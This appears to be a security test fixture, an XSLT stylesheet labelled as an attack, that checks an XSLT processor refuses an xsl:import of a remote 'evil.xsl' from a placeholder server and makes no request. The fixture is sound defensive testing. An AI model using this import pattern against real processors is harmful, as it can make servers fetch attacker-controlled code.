<?xml version="1.0" encoding="UTF-8"?>
<!-- Attack: xsl:import from a server. Expected: refused, no request. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:import href="@SERVER@/evil.xsl"/>
  <xsl:template match="/"><html><body>import</body></html></xsl:template>
</xsl:stylesheet>
